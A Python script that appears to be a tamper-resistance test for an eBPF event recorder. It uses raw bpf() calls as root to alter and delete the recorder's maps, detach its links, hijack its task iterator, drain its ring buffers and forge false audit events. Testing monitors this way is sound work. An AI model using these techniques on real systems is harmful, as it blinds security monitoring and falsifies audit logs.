# SPDX-License-Identifier: BSD-2-Clause
"""Run under a recorder, as its command: reaches for the recorder's kernel programs by bpf(), as root may
who knows their numbers. Only for what the parent has open. Prints a line of JSON for each try.

attack_bpf.py maps | probes | links | iterator | ring | forge
"""

import ctypes
import json
import mmap
import os
import re
import struct
import sys
import time

SYS_BPF = 321
LOOKUP, UPDATE, DELETE, PROG_LOAD, TEST_RUN = 1, 2, 3, 5, 10
MAP_BY_ID, INFO, LINK_UPDATE, LINK_BY_ID, LINK_DETACH = 14, 15, 29, 30, 34
RAW_TRACEPOINT, TRACING, TRACE_ITER, RINGBUF_OUTPUT = 17, 26, 28, 130
TYPE_RINGBUF, TYPE_TASK_STORAGE = 27, 29
LIBC = ctypes.CDLL(None, use_errno=True)
PARENT = os.getppid()


def bpf(cmd, attr):
    """The result, or -errno. attr is passed as it is, and what the kernel wrote is dropped."""
    data = ctypes.create_string_buffer(attr.ljust(128, b"\0"), 128)
    ret = LIBC.syscall(SYS_BPF, cmd, data, 128)
    return ret if ret >= 0 else -ctypes.get_errno()


def say(**what):
    print(json.dumps(what), flush=True)


def numbers(kind):
    """Of what the recorder has open: "map", "prog" or "link"."""
    found = set()
    where = f"/proc/{PARENT}/fdinfo"
    for name in os.listdir(where):
        with open(os.path.join(where, name), encoding="utf-8") as f:
            found |= {int(n) for n in re.findall(rf"^{kind}_id:\s*(\d+)", f.read(), re.M)}
    return sorted(found)


def info_of(fd):
    room = ctypes.create_string_buffer(256)
    ret = bpf(INFO, struct.pack("=IIQ", fd, 256, ctypes.addressof(room)))
    if ret < 0:
        raise OSError(-ret, "BPF_OBJ_GET_INFO_BY_FD")
    return room.raw


class Map:
    def __init__(self, number):
        self.fd = bpf(MAP_BY_ID, struct.pack("=I", number))
        if self.fd < 0:
            raise OSError(-self.fd, "BPF_MAP_GET_FD_BY_ID")
        raw = info_of(self.fd)
        self.type, _, self.key, self.value, self.entries, self.flags = struct.unpack_from("=6I", raw)
        self.name = raw[24:40].split(b"\0")[0].decode()
        self.room = ctypes.create_string_buffer(max(self.value * 64, 8))
        self.at = ctypes.create_string_buffer(max(self.key, 8))

    def attr(self):
        return struct.pack("=IIQQQ", self.fd, 0, ctypes.addressof(self.at),
                           ctypes.addressof(self.room), 0)


def maps():
    """Each map is changed, or it is tried: with what is there already, so that nothing breaks."""
    for m in map(Map, numbers("map")):
        if m.type == TYPE_RINGBUF:
            continue
        if m.type == TYPE_TASK_STORAGE:
            struct.pack_into("=i", m.at, 0, os.pidfd_open(os.getpid()))
        read = bpf(LOOKUP, m.attr())
        gone = bpf(DELETE, struct.pack("=IIQ", m.fd, 0, ctypes.addressof(m.at)))
        say(map=m.name, read=read, update=bpf(UPDATE, m.attr()), delete=gone)


def probes():
    """The word that ends the probes of libraries, which is not frozen, since the recorder sets it."""
    for m in map(Map, numbers("map")):
        if m.name == ".data.user":
            struct.pack_into("=I", m.room, 0, 1)
            say(update=bpf(UPDATE, m.attr()))
    time.sleep(2.5)


def links():
    for number in numbers("link"):
        fd = bpf(LINK_BY_ID, struct.pack("=I", number))
        if fd < 0:
            raise OSError(-fd, "BPF_LINK_GET_FD_BY_ID")
        say(link=number, detach=bpf(LINK_DETACH, struct.pack("=I", fd)))


def btf_id(name):
    """The number of a function in the kernel's own description of its types."""
    with open("/sys/kernel/btf/vmlinux", "rb") as f:
        data = f.read()
    header, types_at, types_n, names_at = struct.unpack_from("=IIII", data, 4)
    more = {1: 4, 3: 12, 14: 4, 17: 4}
    each = {4: 12, 5: 12, 6: 8, 13: 8, 15: 12, 19: 12}
    at, end, number = header + types_at, header + types_at + types_n, 1
    wanted = data.index(b"\0" + name.encode() + b"\0", header + names_at) + 1 - header - names_at
    while at < end:
        name_at, word, _ = struct.unpack_from("=III", data, at)
        kind, n = word >> 24 & 31, word & 0xffff
        if kind == 12 and name_at == wanted:
            return number
        at += 12 + more.get(kind, 0) + each.get(kind, 0) * n
        number += 1
    raise KeyError(name)


def load(instructions, prog_type, attach_type, target):
    code = ctypes.create_string_buffer(b"".join(instructions))
    licence = ctypes.create_string_buffer(b"GPL")
    attr = struct.pack("=IIQQIIQIIII", prog_type, len(instructions), ctypes.addressof(code),
                       ctypes.addressof(licence), 0, 0, 0, 0, 0, 0, 0)
    attr = attr.ljust(68, b"\0") + struct.pack("=I", attach_type)
    attr = attr.ljust(108, b"\0") + struct.pack("=I", target)
    fd = bpf(PROG_LOAD, attr)
    if fd < 0:
        raise OSError(-fd, "BPF_PROG_LOAD")
    return fd


def op(code, dst=0, src=0, offset=0, value=0):
    return struct.pack("=BBhi", code, src << 4 | dst, offset, value)


def iterator():
    """Keyframes are to show no process any more."""
    mine = load([op(0xb7), op(0x95)], TRACING, TRACE_ITER, btf_id("bpf_iter_task"))
    for number in numbers("link"):
        fd = bpf(LINK_BY_ID, struct.pack("=I", number))
        say(link=number, update=bpf(LINK_UPDATE, struct.pack("=IIII", fd, mine, 0, 0)))
    time.sleep(2.5)


def ring():
    """What is in the rings is thrown away, again and again, before the recorder reads it."""
    page = mmap.PAGESIZE
    rings = []
    for m in map(Map, numbers("map")):
        if m.type == TYPE_RINGBUF:
            rings.append((mmap.mmap(m.fd, page, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE),
                          mmap.mmap(m.fd, page, mmap.MAP_SHARED, mmap.PROT_READ, offset=page)))
    say(rings=len(rings))
    end = time.monotonic() + 1.5
    made = 0
    while time.monotonic() < end:
        for _ in range(50):
            os.close(os.open("/dev/null", os.O_RDONLY))
            made += 1
        for consumer, producer in rings:
            consumer[:8] = producer[:8]
    say(made=made)


def forge():
    """Puts events into the recorder's ring that never were: three times that a filter of system calls was
    installed, by process 4242."""
    fd = next(m.fd for m in map(Map, numbers("map")) if m.type == TYPE_RINGBUF)
    record = struct.pack("=QQqIIHHHBBII", time.clock_gettime_ns(time.CLOCK_BOOTTIME), 1, 0, 4242, 4242, 0,
                         8, 317, 91, 0, 1, 0)
    code = [op(0x62, dst=10, offset=at - len(record),
               value=struct.unpack_from("=i", record, at)[0]) for at in range(0, len(record), 4)]
    code += [op(0x18, dst=1, src=1, value=fd), op(0), op(0xbf, dst=2, src=10),
             op(0x07, dst=2, value=-len(record)), op(0xb7, dst=3, value=len(record)), op(0xb7, dst=4),
             op(0x85, value=RINGBUF_OUTPUT), op(0xb7), op(0x95)]
    program = load(code, RAW_TRACEPOINT, 0, 0)
    for _ in range(3):
        say(ran=bpf(TEST_RUN, struct.pack("=I", program)))


if __name__ == "__main__":
    {f.__name__: f for f in (maps, probes, links, iterator, ring, forge)}[sys.argv[1]]()
